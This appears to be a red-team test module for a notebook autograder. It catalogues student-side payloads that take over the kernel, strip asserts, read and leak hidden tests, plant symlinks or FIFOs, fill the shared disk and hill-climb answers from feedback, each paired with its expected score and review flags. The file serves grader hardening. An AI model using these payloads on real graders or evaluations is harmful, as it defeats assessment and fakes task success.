    names = {"progress": _SENTINEL, "answer.json": os.path.join(os.path.dirname(_SENTINEL), "answer.json")}
    for path in _connection_files():
        names[os.path.basename(path)] = os.path.join(os.path.dirname(_SENTINEL), os.path.basename(path))
    return names


def _plant(fifo=False):
    for folder in _writable():
        for name, target in _names().items():
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.remove(path)
                if fifo:
                    os.mkfifo(path)
                else:
                    os.symlink(target, path)
            except OSError:
                pass
"""
    % {"sentinel": SENTINEL}
)
PLANTS_LINKS = PLANTS + (
    "\n\n_plant()\n\n\ndef brier_score(probs, labels):\n    _plant()\n    raise NotImplementedError\n"
)
PLANTS_FIFOS = PLANTS + (
    "\n\n_plant(fifo=True)\n\n\ndef brier_score(probs, labels):\n    _plant(fifo=True)\n    os._exit(1)\n"
)

# The disk the kernel shares with the grader, filled when the tests call the function: 200 MiB at
# most (so that a grader that does not stop it fills no CI machine's disk), then a wait to be
# stopped; or thousands of files and a large (sparse) file under the progress file's name.
FILLS_BYTES = (
    WRITABLE
    + r"""
import time
_filled = []


def gaussian_nll(y, mean, scale):
    if not _filled:
        _filled.append(1)
        for path in _connection_files():
            try:
                with open(os.path.join(os.path.dirname(path), "filler"), "wb") as handle:
                    for _ in range(200):
                        handle.write(bytes(2**20))
                        handle.flush()
            except OSError:
                pass
        time.sleep(30)
    return tf.constant(0.0)
"""
)
FILLS_FILES = (
    WRITABLE
    + r"""
import pathlib, time


def brier_score(probs, labels):
    for path in _connection_files():
        folder = pathlib.Path(path).parent
        try:
            for number in range(5000):
                (folder / f"filler-{number}").touch()
            with open(folder / "progress", "wb") as handle:
                handle.truncate(2**30)
        except OSError:
            pass
    time.sleep(30)
    raise NotImplementedError
"""
)

# Answers no honest kernel gives: huge integers (300 digits, and 5000: more than Python reads as a
# number), long strings (1 MB, and more than the examiner reads), a list nested 100,000 deep,
# and an error whose class names are megabytes long, in turn for every question.
HUGE_ANSWERS = r"""
import json
import bdl.wire
_asked = []


def _huge(request, namespace=None):
    _asked.append(request)
    kind = len(_asked) % 6
    if kind == 0:
        text = '{"value": {"t": "py", "v": %s}}' % ("9" * 300)
    elif kind == 1:
        text = '{"value": {"t": "py", "v": %s}}' % ("9" * 5000)
    elif kind == 2:
        text = json.dumps({"value": {"t": "py", "v": "RED TEAM TEXT " * 80_000}})
    elif kind == 3:
        text = json.dumps({"value": {"t": "py", "v": "RED TEAM TEXT " * 5_000_000}})
    elif kind == 4:
        text = '{"value": ' + '{"t": "list", "v": [' * 100_000 + "]}" * 100_000 + "}"
    else:
        text = json.dumps({"error": ["builtins." + "RED TEAM TEXT " * 10_000] * 100})
    return bdl.wire.Answer(text)


bdl.wire.respond = _huge
"""
# A correct 01 whose fgsm, given float64 inputs, returns an object whose dtype (a question the
# examiner puts, to name the wrong type in its message) is a long string: the base64 of any test
# text the kernel found, from its hidden part on.
CARRIES_IN_DTYPE = (
    WRITABLE
    + SEARCH_OPEN
    + r"""
import base64
_honest_fgsm = fgsm


class _Carrier:
    is_tensor_like = False

    @property
    def dtype(self):
        hidden = "BEGIN " + "HIDDEN"
        texts = [text[text.index(hidden):] for text in _search() if hidden in text]
        return "float64 " + base64.b64encode((texts or ["nothing found"])[0].encode()).decode() * 100


def fgsm(loss_fn, x, y, eps):
    if tf.as_dtype(x.dtype) == tf.float64:
        return _Carrier()
    return _honest_fgsm(loss_fn, x, y, eps)
"""
)
# The kit's stand-ins (and a course helper) in place of the answers they stand in for in other tests,
# or resemble: each in the answer cell of the function it replaces.
STAND_INS = {
    "brier_score": "from bdl.questions.bayesian_cnn import BrierLoss\nbrier_score = BrierLoss()\n",
    "gaussian_nll": "from bdl.questions.likelihoods import LinearLoss\ngaussian_nll = LinearLoss(1.0)\n",
    "categorical_nll": "from bdl.ensembles import member_categorical_nll\ncategorical_nll = member_categorical_nll\n",
    # the signs of the visible test's step: a stand-in that knows one answer
    "fgsm": "from bdl.questions.likelihoods import SignStep\nfgsm = SignStep([[[-1.0], [1.0], [1.0]]])\n",
}


# Attacks spelled with no name the review knows: they are not flagged, and gain nothing all the same.
UNFLAGGED = {
    "reads_tests_unflagged",
    "keeps_state_unflagged",
    "plants_links",
    "fills_with_files",
    "fills_the_shared_disk",
    "carries_tests_in_a_dtype",
}


def notebook(name, sentinel, course):
    """Attack ``name``'s notebook on ``course`` (``tiny_course`` or ``small_course``), with ``sentinel``
    (a path) for ``SENTINEL``."""
    nb = ATTACKS[name][0](course)
    for cell in nb.cells:
        cell.source = cell.source.replace(SENTINEL, str(sentinel))
    return nb


ATTACKS = {
    # Transformers: the tests never run; the guard takes the transformer away, or the seal is missing.
    "transformer_cleanup": (blank(TRANSFORMER_DIRECT), 0, "graded", ["uses get_ipython"]),
    "transformer_post": (blank(TRANSFORMER_POST), 0, "graded", ["uses get_ipython"]),
    "transformer_getattr": (blank(TRANSFORMER_GETATTR), 0, "graded", ["computed name"]),
    "transformer_vars": (blank(TRANSFORMER_VARS), 0, "graded", ["vars("]),
    # Every later cell becomes ``pass``: the tests run in the examiner all the same, and the later
    # answers, never defined, lose their points too.
    "transformer_when_called": (wrong(when_called(TRANSFORMER_DIRECT)), 2, "graded", ["uses get_ipython"]),
    "ast_strips_asserts": (blank(AST_STRIP_ASSERTS), 0, "graded", ["ast_transformers"]),
    "ast_strips_asserts_when_called": (
        wrong(when_called(AST_STRIP_ASSERTS.replace("import ast\n", ""))),
        FULL - 2,
        "graded",
        ["ast_transformers"],
    ),
    "events_then_transformer": (blank(EVENTS_THEN_TRANSFORMER), 0, "graded", ["events"]),
    "last_line_only": (blank(LAST_LINE_ONLY), 0, "graded", ["events"]),
    "syntax_error_silenced": (blank(SYNTAX_ERROR_SILENCED), 0, "graded", ["showsyntaxerror"]),
    # The shell's methods.
    "run_cell": (blank(RUN_CELL), 0, "graded", ["run_cell"]),
    "run_cell_async": (blank(RUN_CELL_ASYNC), 0, "graded", ["computed name"]),
    "run_ast_nodes_on_the_class": (blank(RUN_AST_NODES), 0, "graded", ["run_ast_nodes"]),
    "showtraceback": (blank(SHOWTRACEBACK), 0, "graded", ["showtraceback"]),
    "showtraceback_private": (blank(_SHOWTRACEBACK), 0, "graded", ["computed name"]),
    # nbgrader adds the error from the kernel's reply: silencing the traceback alone hides nothing.
    "showtraceback_when_called": (wrong(when_called(SHOWTRACEBACK)), FULL - 2, "graded", ["showtraceback"]),
    "silences_later_errors_when_called": (
        wrong(when_called(SILENCES_LATER_ERRORS, DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        ["run_cell"],
    ),
    "transform_cell": (blank(TRANSFORM_CELL), 0, "graded", ["transform_cell"]),
    "error_messages_dropped": (blank(ERROR_MESSAGES), 0, "graded", ["displayhook"]),
    "error_messages_dropped_when_called": (wrong(when_called(ERROR_MESSAGES)), FULL - 2, "graded", ["displayhook"]),
    # Events and hooks.
    "events_unregister": (blank(EVENTS_UNREGISTER), 0, "graded", ["events"]),
    "events_trigger": (blank(EVENTS_TRIGGER), 0, "graded", ["events"]),
    "display_and_except_hooks": (blank(DISPLAYHOOK), 0, "graded", ["displayhook"]),
    # Tracing.
    # IPython runs each top-level statement as its own code object: there is no end to jump to.
    "settrace_jumps_to_the_end_when_called": (wrong(when_called(JUMP_TO_END)), FULL - 2, "graded", ["sys.settrace"]),
    # A tracer left running while the tests run: the seal refuses.
    "settrace_while_tested": (
        wrong(when_called(SETTRACE_GLOBAL, DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        ["sys.settrace"],
    ),
    "settrace_and_setprofile": (blank(SETTRACE_GLOBAL), 0, "graded", ["sys.settrace"]),
    # Rebound helpers.
    "helpers_in_test_namespace": (blank(REBIND_IN_TEST_NAMESPACE), 0, "graded", ["globals()"]),
    "numpy_rebound_in_namespace": (blank(REBIND_NUMPY_IN_NAMESPACE), 0, "graded", []),
    "helpers_in_modules": (blank(REBIND_MODULES), 0, "graded", ["rebinds numpy.allclose"]),
    "fake_checks_module": (blank(FAKE_CHECKS_MODULE), 0, "graded", ["writes sys.modules"]),
    "fake_checks_finder": (blank(FAKE_CHECKS_FINDER), 0, "graded", ["imports importlib"]),
    "helpers_rebound_when_called": (
        wrong(when_called(REBIND_HELPERS_WHEN_CALLED, DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        ["globals()"],
    ),
    "modules_rebound_when_called": (
        wrong(when_called(REBIND_MODULE_WHEN_CALLED, DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        ["setattr"],
    ),
    # NumPy's reductions in the kernel are broken from gaussian_nll's tests on: every later answer that
    # sums with them loses its points too (on 01 more of them than on the tiny assignment, whose
    # categorical_nll alone sums through np.sum after it). A score per course.
    "numpy_internals_when_called": (
        wrong(when_called(NUMPY_INTERNALS, DIFFERENTIABLE)),
        {"01_likelihoods": 5, "00_tiny": FULL - 4},
        "graded",
        ["numpy._core"],
    ),
    "library_class_patched": (
        wrong(PATCHES_LIBRARY_CLASS + WRONG_GAUSSIAN.replace("tf.constant(0.0)", HARD_CODED)),
        FULL - 2,
        "graded",
        ["rebinds tfd.Normal.log_prob"],
    ),
    "library_class_patched_when_called": (
        wrong(when_called(PATCHES_LIBRARY_CLASS, HARD_CODED)),
        FULL - 2,
        "graded",
        ["rebinds tfd.Normal.log_prob"],
    ),
    "swaps_helper_code": (
        wrong(SWAPS_CODE + "\n" + WRONG_GAUSSIAN.replace("tf.constant(0.0)", DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        [".__code__"],
    ),
    "swaps_helper_code_when_called": (wrong(when_called(SWAPS_CODE, DIFFERENTIABLE)), FULL - 2, "graded", ["__code__"]),
    # TensorFlow itself calls .numpy() on its tensors: the patch breaks the tests' own computations.
    "patches_tensor_class_when_called": (
        wrong(when_called(PATCHES_TENSOR_CLASS, DIFFERENTIABLE)),
        2,
        "graded",
        ["__array__"],
    ),
    # The hidden tests also compare with values they do not keep in a name.
    "overwrites_expected_values": (blank(OVERWRITES_EXPECTED), 0, "graded", ["globals()"]),
    # Objects that equal anything.
    "equals_anything": (
        blank(EQUALS_ANYTHING + "def brier_score(probs, labels):\n    return _Any()\n"),
        0,
        "graded",
        [],
    ),
    "peeks_at_expected": (
        blank(PEEKS_AT_EXPECTED + "def brier_score(probs, labels):\n    return _Mirror()\n"),
        0,
        "graded",
        ["sys._getframe"],
    ),
    "peeks_at_expected_as_a_tensor": (
        blank(
            PEEKS_AT_EXPECTED + "_Mirror.is_tensor_like = True\n\n\n"
            "def categorical_nll(labels_onehot, logits):\n    return _Mirror()\n",
            "categorical_nll",
        ),
        0,
        "graded",
        ["sys._getframe"],
    ),
    # Reading the hidden tests and sending them out: the feedback must show none of it.
    "raises_cell_source": (blank(raising(READ_IH)), 0, "graded", ["uses get_ipython"]),
    "raises_in": (blank(raising(READ_IN)), 0, "graded", ["globals()"]),
    "raises_history": (blank(raising(READ_HISTORY)), 0, "graded", ["history_manager"]),
    "raises_linecache": (blank(raising(READ_LINECACHE)), 0, "graded", ["linecache"]),
    "raises_inspect_stack": (blank(raising(READ_STACK)), 0, "graded", ["inspect"]),
    "raises_gc": (blank(raising(READ_GC)), 0, "graded", ["gc"]),
    "assertion_with_secret": (blank(ASSERTION_WITH_SECRET), 0, "graded", ["uses get_ipython"]),
    "warns_secret": (blank(WARNS_SECRET), 0, "graded", ["uses get_ipython"]),
    "prints_earlier_tests": (reference(PRINTS_EARLIER_TESTS), FULL, "graded", ["In"]),
    "displays_earlier_tests": (reference(DISPLAYS_EARLIER_TESTS), FULL, "graded", ["_ih"]),
    "repr_of_secret": (blank(REPR_OF_SECRET, "gaussian_nll"), 0, "graded", ["uses get_ipython"]),
    "writes_earlier_tests": (reference(WRITES_EARLIER_TESTS), FULL, "graded", ["In"]),
    # The student owns the kernel: nothing it does reaches a verdict, nothing hidden reaches it.
    "owns_kernel_zeros": (blank(takeover("zeros")), 0, "graded", ["ast_transformers", "imports bdl.wire"]),
    "owns_kernel_echoes_inputs": (blank(takeover("echo")), 0, "graded", ["imports bdl.wire"]),
    "owns_kernel_errors_carry_text": (blank(takeover("error")), 0, "graded", ["imports bdl.wire"]),
    "owns_kernel_answers_text": (blank(takeover("text")), 0, "graded", ["imports bdl.wire"]),
    "owns_kernel_as_magics": (
        blank(takeover("zeros", spelling="magic")),
        0,
        "graded",
        ["uses the magic %time", "calls exec"],
    ),
    "owns_kernel_through_timeit": (blank(takeover("echo", spelling="timeit")), 0, "graded", ["imports timeit"]),
    "owns_kernel_in_a_cell_magic": (
        first_cell(takeover("zeros", spelling="cell_magic"), "blank"),
        0,
        "graded",
        ["uses the magic %%capture", "calls exec"],
    ),
    # A wrong gaussian_nll whose questions get crafted answers: only the honest answers' points.
    "owns_kernel_forges_one_function": (
        wrong(takeover("zeros", forge_only="gaussian_nll")),
        FULL - 2,
        "graded",
        ["imports bdl.wire"],
    ),
    "owns_kernel_forges_when_called": (
        wrong(when_called(takeover("echo", forge_only="gaussian_nll", spelling="timeit"), DIFFERENTIABLE)),
        FULL - 2,
        "graded",
        ["imports timeit"],
    ),
    # The kernel and the grader's files: nothing of a test in any file it can read, nothing it
    # plants followed or opened by the grader, a full disk and a crash cost the cell that did it.
    "reads_tests": (reads_tests("open"), 0, "graded", ["calls eval", "imports ipykernel"]),
    "reads_tests_unflagged": (reads_tests("glob"), 0, "graded", []),
    "keeps_state": (
        keeps_state("open"),
        0,
        "graded",
        ["graded again without cell adversarial_loss_tests (the kernel died", "calls exec", "calls os._exit"],
    ),
    "keeps_state_unflagged": (
        keeps_state("glob"),
        0,
        "graded",
        ["graded again without cell adversarial_loss_tests (the kernel died"],
    ),
    "plants_links": (blank(PLANTS_LINKS), 0, "graded", []),
    "plants_fifos": (
        blank(PLANTS_FIFOS),
        0,
        "graded",
        ["graded again without cell brier_score_tests (the kernel died", "calls os._exit"],
    ),
    "fills_the_shared_disk": (
        wrong(FILLS_BYTES),
        FULL - 2,
        "graded",
        ["graded again without cell gaussian_nll_tests (wrote more than"],
    ),
    "fills_with_files": (
        blank(FILLS_FILES),
        0,
        "graded",
        ["graded again without cell brier_score_tests (wrote more than"],
    ),
    "answers_huge_values": (blank(HUGE_ANSWERS), 0, "graded", ["imports bdl.wire"]),
    # fgsm's float64 checks fail: its 2 points, and nothing else
    "carries_tests_in_a_dtype": (edited("reference", {"fgsm": CARRIES_IN_DTYPE}), FULL - 2, "graded", []),
    "kit_stand_ins_as_answers": (edited("blank", STAND_INS), 0, "graded", ["imports bdl.questions"]),
}

# Attacks on TensorFlow's own objects (its tensor class and dtypes, TFP's distributions, tf.is_tensor,
# tensorflow.debugging) or with the kit's stand-ins for 01's tests: graded on 01 alone.
TENSORFLOW_ONLY = frozenset(
    {
        "helpers_in_test_namespace",
        "helpers_in_modules",
        "library_class_patched",
        "library_class_patched_when_called",
        "patches_tensor_class_when_called",
        "equals_anything",
        "peeks_at_expected_as_a_tensor",
        "carries_tests_in_a_dtype",
        "kit_stand_ins_as_answers",
    }
)
# Every other attack is graded on the tiny assignment (``tiny_course``), and one of each class on 01
# as well (``small_course``: TensorFlow in its kernel and its examiner, 01's own tests): the
# transformers, the shell's methods, events and hooks, tracing, reading and sending the tests,
# owning the kernel, and state kept across a crash; those of the rebound helpers, the objects that
# equal anything and the grader's files are among TENSORFLOW_ONLY.
ON_TINY = frozenset(ATTACKS) - TENSORFLOW_ONLY
ON_01 = TENSORFLOW_ONLY | {
    "transformer_cleanup",
    "run_cell",
    "events_unregister",
    "settrace_while_tested",
    "raises_cell_source",
    "owns_kernel_zeros",
    "keeps_state",
}


# The class that reads its own feedback. A student gets a failing message, takes each number it shows
# and moves their answer by it the way the message says, on the input the message names (keyed by its
# shape), and hands in again; round after round, a wrong function would walk to the hidden expected
# values if the numbers located them. ``WALKERS`` maps a name to (the function, its wrong code, which
# takes the corrections so far from ``CORRECTIONS``, and the input key a message's "what" names).
# tests/system/test_red_team.py grades them round by round on the tiny assignment (NumPy alone).
WALKERS = {
    # 0.3 % too large (the visible case hard-coded): the hidden cases say "largest difference" and "larger".
    "walks_by_the_largest_difference": (
        "gaussian_nll",
        "def gaussian_nll(y, mean, scale):\n"
        "    key = tuple(np.shape(y))\n"
        "    if key == (3, 1):\n"
        "        return np.float64(1.4833209)\n"
        "    value = 1.003 * np.mean(0.5 * np.log(2 * np.pi) + np.log(scale) + (y - mean) ** 2 / (2 * scale ** 2))\n"
        "    return value + CORRECTIONS.get(key, 0.0)\n",
        lambda what: ast.literal_eval(what.split("shape ", 1)[1]) if "shape " in what else None,
    ),
    # A scale off by an amount that grows with the batch: each case says "off by the same constant".
    "walks_by_the_constant_offset": (
        "split_mean_scale",
        "def split_mean_scale(outputs):\n"
        "    outputs = np.asarray(outputs, dtype=float)\n"
        "    scale = np.logaddexp(0.0, outputs[:, 1:2]) + 1e-6 + 0.015 * len(outputs)\n"
        "    return outputs[:, 0:1], scale + CORRECTIONS.get(len(outputs), 0.0)\n",
        lambda what: {"the scale": 3, "the scale for rho = -1000 and 1000": 2}.get(what),
    ),
}
_FAILED = re.compile(
    r"AssertionError: (.+?) does not match the expected values \(largest difference ([^)]*)\)(?:: (.*))?"
)


def walker(name, corrections, course):
    """Walker ``name``'s hand-in: the reference with its function wrong, moved by ``corrections``."""
    function, code, _ = WALKERS[name]
    nb = course.reference()
    graded_cells(nb)[function].source = f"CORRECTIONS = {corrections!r}\n\n{code}"
    return nb


def corrections_read(name, page_text):
    """The corrections a student reads off a feedback page: {input key: amount to add} for each failing
    message that shows a number and says which way the answer is off; and the inputs of all the failing
    messages the walker's function got."""
    read, failed = {}, []
    for what, largest, said in _FAILED.findall(page_text):
        key = WALKERS[name][2](what)
        said = said.strip()
        if key is None:
            continue
        failed.append(key)
        if found := re.search(r"off by the same constant, (-?[0-9.]+(?:e[-+]?\d+)?)$", said):
            read[key] = -float(found.group(1))
        elif re.fullmatch(r"[0-9.]+(?:e[-+]?\d+)?", largest) and (
            found := re.search(r"it is (larger|smaller) than the expected value$", said)
        ):
            read[key] = -float(largest) if found.group(1) == "larger" else float(largest)
    return read, failed
